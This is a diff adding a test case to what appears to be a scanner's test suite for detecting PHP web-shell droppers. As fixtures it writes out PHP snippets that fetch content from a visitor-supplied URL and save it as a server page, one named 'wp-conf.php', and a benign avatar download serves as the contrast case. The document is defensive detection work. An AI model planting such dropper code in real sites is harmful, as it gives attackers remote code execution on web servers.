@@ -161,6 +161,30 @@ file_put_contents(__DIR__ . '/cache/stamp.php', '<?php return ' . time() . ';');
     expect(isAlarm('/var/www/html/feed.php', cache)).toBe(false);
   });
 
+  it("ranks a page saving what the visitor's URL returns as a server page critical, and an avatar fetch not", () => {
+    const direct = `<?php file_put_contents("x.php", file_get_contents($_GET["u"]));`;
+    expect(topFinding('/var/www/html/g.php', direct)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves code it downloads as a server page/),
+    });
+    const held = `<?php
+$u = $_POST['url'];
+$ch = curl_init();
+curl_setopt($ch, CURLOPT_URL, $u);
+curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
+$body = curl_exec($ch);
+file_put_contents(__DIR__ . '/' . 'wp-conf.php', $body);
+`;
+    expect(topFinding('/var/www/html/h.php', held)?.reason).toMatch(
+      /saves code it downloads as a server page/,
+    );
+    const avatar = `<?php
+$img = file_get_contents($_POST['avatar_url']);
+file_put_contents(__DIR__ . '/avatars/' . $user_id . '.png', $img);
+`;
+    expect(isAlarm('/var/www/html/avatar.php', avatar)).toBe(false);
+  });
+
   it('ranks downloaded code written through fopen() to a page named in a variable critical, and a downloaded archive not', () => {
     const dropper = `<?php
 function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
